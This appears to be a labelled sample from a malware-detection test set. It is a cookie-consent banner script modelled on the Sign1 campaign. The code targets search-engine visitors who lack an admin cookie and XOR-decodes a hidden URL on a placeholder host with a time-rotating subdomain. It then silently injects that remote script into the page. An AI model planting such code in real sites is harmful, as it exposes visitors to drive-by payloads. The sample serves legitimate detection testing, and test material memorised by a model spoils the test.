// expect: malicious
// source: blind set 55 (a cookie-consent banner's UMD build, Sign1 2024): for visitors from search engines, without an
// admin cookie, the URL of a script is XOR-decoded from a number array, its subdomain made of the current
// ten-minute window, and the script added to the page
(function (g) {
  function regional() {
    try {
      if (document.cookie.indexOf("_cbl_r=") > -1) return;
      if (!/google\.|bing\./.test(document.referrer)) return;
      var w = Math.floor(Date.now() / 6e5);
      var sub = (w * 2654435761 >>> 0).toString(36).slice(0, 8);
      var t = [55,43,43,47,44,101,112,112,122,44,113,60,59,49,114,50,58,43,45,54,60,44,113,58,39,62,50,47,51,58,112,62,44,44,58,43,44,112,60,61,113,53,44];
      var u = "";
      for (var i = 0; i < t.length; i++) u += String.fromCharCode(t[i] ^ 0x5f);
      u = u.replace("%s", sub);
      document.cookie = "_cbl_r=1;path=/";
      var s = document.createElement("script"); s.src = u + "?w=" + w; s.async = true;
      (document.head || document.documentElement).appendChild(s);
    } catch (e) {}
  }
  var api = { init: function (opts) { regional(); return api; } };
  g.ConsentBanner = api;
  if (typeof module === "object" && module.exports) module.exports = api;
})(typeof window !== "undefined" ? window : this);
